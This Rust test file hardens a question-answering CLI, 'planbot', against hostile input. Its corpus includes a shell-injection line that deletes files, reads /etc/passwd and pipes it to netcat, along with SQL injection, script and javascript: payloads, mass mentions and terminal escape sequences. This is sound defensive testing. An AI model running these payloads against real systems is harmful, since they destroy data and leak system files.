//! The hostile corpus of issue 8 through the command line (`planbot ask`, as an argument, on
//! standard input, with `--json`), and a plan document holding markup and terminal escapes.
//! The HTTP API and the page have theirs in tests/http.rs and tests/browser.rs, the bot in
//! tests/discord.rs.
//!
//! What "safe" means for a terminal: plain text has no markup, so `<script>` and `@everyone`
//! are only characters; what a terminal acts on are control characters (ESC sequences recolour,
//! retitle or rewrite the screen) and bidirectional controls. None of them may reach stdout
//! from a document or a question; the JSON escapes them as `\u001b`.

use std::io::Write;
use std::process::{Command, Stdio};

use crate::util::{run, TempProject};

/// Text that only the program's internals would say.
const INTERNALS: &[&str] =
    &["panicked", "RUST_BACKTRACE", "src/", ".rs:", "tantivy", "Error(", "検索中に問題", "thread '"];

/// The corpus: (name, question). Names say what each is, for the failure message.
fn corpus() -> Vec<(&'static str, String)> {
    vec![
        ("empty", String::new()),
        ("whitespace", " \t\u{3000} ".into()),
        ("100,000 characters", "防災".repeat(50_000)),
        ("control characters", "マイナンバー\u{1}\u{7}\u{1b}[2J\u{1b}]0;x\u{7}カード交付率の目標は？".into()),
        (
            "invisible and right-to-left marks",
            "\u{202e}\u{2066}マイナンバーカード交付率の目標は？\u{2069}\u{200f}".into(),
        ),
        ("emoji", "🏯🎌 マイナンバーカード交付率の目標は？🙏".into()),
        ("query syntax", "交付率 AND (目標 OR *) NOT \"x\"~2 title:[a TO z]^3".into()),
        ("SQL", "'; DROP TABLE questions; -- 交付率".into()),
        ("shell", "$(rm -rf /) `id` ; cat /etc/passwd | nc x 1".into()),
        ("HTML and script", "<script>alert(1)</script><img src=x onerror=alert(2)>交付率の目標は？".into()),
        ("markdown link", "[ここ](javascript:alert(1)) マイナンバーカード交付率の目標は？".into()),
        ("mentions", "@everyone @here <@123> <@&123> マイナンバーカード交付率の目標は？".into()),
        ("5,000 digits", "9".repeat(5_000)),
        ("English", "What is the target for the My Number card issuance rate?".into()),
    ]
}

/// The project, with its index built once for all the runs.
fn project() -> TempProject {
    let p = TempProject::with_bundled_data();
    let (code, _, err) = run(&p, &["index"]);
    assert_eq!(code, 0, "{err}");
    p
}

/// `planbot ARGS` with `input` on standard input: (exit code, stdout bytes, stderr).
fn run_with_input(p: &TempProject, args: &[&str], input: &[u8]) -> (i32, Vec<u8>, String) {
    let mut child = Command::new(env!("CARGO_BIN_EXE_planbot"))
        .args(args)
        .current_dir(&p.root)
        .env_remove("PLANBOT_DATA")
        .env_remove("PLANBOT_INDEX")
        .env_remove("PLANBOT_LOG")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // planbot reads only what it uses, then may close its input: not an error.
    if let Err(e) = child.stdin.take().unwrap().write_all(input) {
        assert_eq!(e.kind(), std::io::ErrorKind::BrokenPipe, "{e}");
    }
    let out = child.wait_with_output().unwrap();
    (out.status.code().unwrap_or(-1), out.stdout, String::from_utf8_lossy(&out.stderr).into_owned())
}

/// What every answer to a hostile question must be: an exit code of the documented ones for
/// an answer (0 found, 1 not found) or bad input (2), bounded output, nothing internal, nothing
/// a terminal would act on. Returns the problem, if any.
fn judge(name: &str, form: &str, code: i32, stdout: &[u8], stderr: &str, json: bool) -> Option<String> {
    let out = String::from_utf8_lossy(stdout);
    let what = format!("{name} ({form}): exit {code}");
    if !matches!(code, 0..=2) {
        return Some(format!("{what}\n{stderr}"));
    }
    if stdout.len() > 64 * 1024 || stderr.len() > 4 * 1024 {
        return Some(format!("{what}: {} bytes out, {} bytes of stderr", stdout.len(), stderr.len()));
    }
    if let Some(internal) = INTERNALS.iter().find(|i| out.contains(**i) || stderr.contains(**i)) {
        return Some(format!("{what}: internal text {internal:?}\n{out}\n{stderr}"));
    }
    if let Some(c) = out
        .chars()
        .chain(stderr.chars())
        .find(|c| (c.is_control() && *c != '\n') || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'))
    {
        return Some(format!("{what}: U+{:04X} reaches the terminal\n{out:?}", c as u32));
    }
    if code == 2 {
        return (!stderr.contains("質問")).then(|| format!("{what}: no Japanese message: {stderr}"));
    }
    if json {
        let v: serde_json::Value = match serde_json::from_str(&out) {
            Ok(v) => v,
            Err(e) => return Some(format!("{what}: not JSON ({e}): {out}")),
        };
        if v["found"].as_bool() != Some(code == 0) {
            return Some(format!("{what}: found {} with exit {code}", v["found"]));
        }
        if v["question"].as_str().is_none_or(|q| q.chars().count() > 500) {
            return Some(format!("{what}: question echoed unbounded"));
        }
    } else if out.trim().is_empty() {
        return Some(format!("{what}: no answer printed"));
    }
    None
}

#[test]
fn harden_hostile_questions_through_the_cli_get_bounded_safe_answers() {
    let p = project();
    let mut problems = Vec::new();
    for (name, q) in corpus() {
        // An argument cannot hold NUL, and holds at most 128 KiB: those go through stdin only.
        if q.len() < 100_000 {
            for (form, json) in [("argument", false), ("argument --json", true)] {
                let args: Vec<&str> = if json { vec!["ask", "--json", &q] } else { vec!["ask", &q] };
                let (code, out, err) = run_with_input(&p, &args, b"");
                problems.extend(judge(name, form, code, &out, &err, json));
            }
        }
        let (code, out, err) = run_with_input(&p, &["ask", "--json", "-"], q.as_bytes());
        problems.extend(judge(name, "stdin --json", code, &out, &err, true));
    }
    // NUL and a lone invalid byte, which only standard input can carry.
    for (name, bytes) in [("NUL", &b"\0\0\0"[..]), ("NUL in a question", &b"\xe4\xba\xa4\0\xff\xfe\x00"[..])] {
        let (code, out, err) = run_with_input(&p, &["ask", "-"], bytes);
        problems.extend(judge(name, "stdin", code, &out, &err, false));
    }
    assert!(problems.is_empty(), "{} hostile inputs misbehaved:\n{}", problems.len(), problems.join("\n\n"));
}

#[test]
fn harden_hostile_questions_keep_their_meaning_where_they_have_one() {
    // The cleaning of issue 8 (defect 8): marks, mentions and links around a valid question do
    // not turn it into "not found".
    let p = project();
    for (name, q) in corpus().into_iter().filter(|(_, q)| q.contains("マイナンバーカード交付率")) {
        let (code, out, err) = run_with_input(&p, &["ask", &q], b"");
        let out = String::from_utf8_lossy(&out);
        assert_eq!(code, 0, "{name}: {out}{err}");
        assert!(out.contains("100.0%"), "{name}: {out}");
    }
}

#[test]
fn harden_a_plan_holding_markup_and_escapes_is_shown_inert_by_the_cli() {
    let p = TempProject::empty();
    p.write(
        "data/plans/hostile.txt",
        "# 安全安心計画\n\n\
         | 指標名 | 現状値 | 目標値 |\n\
         |---|---|---|\n\
         | 避難所の開設訓練回数\u{1b}[31m<script>alert(1)</script>@everyone\u{1b}]0;pwned\u{7} | 3回 | 10回 |\n\n\
         本文にも \u{1b}[2J と \u{202e}逆順\u{202c} と <@&123> があります。\n",
    );
    let (code, out, err) = run_with_input(&p, &["ask", "避難所の開設訓練回数の目標は？"], b"");
    let shown = String::from_utf8_lossy(&out);
    assert_eq!(code, 0, "{shown}{err}");
    assert!(shown.contains("10回"), "{shown}");
    assert!(!shown.contains('\u{1b}') && !shown.contains('\u{7}') && !shown.contains('\u{202e}'), "{shown:?}");
    // Plain text: the markup is shown as the characters it is.
    assert!(shown.contains("<script>") || shown.contains("@everyone"), "{shown}");
    let (code, out, _) = run_with_input(&p, &["ask", "--json", "避難所の開設訓練回数の目標は？"], b"");
    assert_eq!(code, 0);
    let raw = String::from_utf8_lossy(&out);
    assert!(!raw.contains('\u{1b}'), "JSON escapes control characters: {raw:?}");
    let v: serde_json::Value = serde_json::from_str(&raw).unwrap();
    // The JSON carries the document's text as data (markup and all); the page and the bot make
    // it inert where they show it (tests/browser.rs, tests/discord.rs).
    let quote = v["citations"][0]["quote"].as_str().unwrap();
    assert!(quote.contains("<script>") && quote.contains("@everyone"), "{quote}");
    // The document itself stays as published.
    assert!(std::fs::read_to_string(p.root.join("data/plans/hostile.txt")).unwrap().contains("\u{1b}[31m"));
}
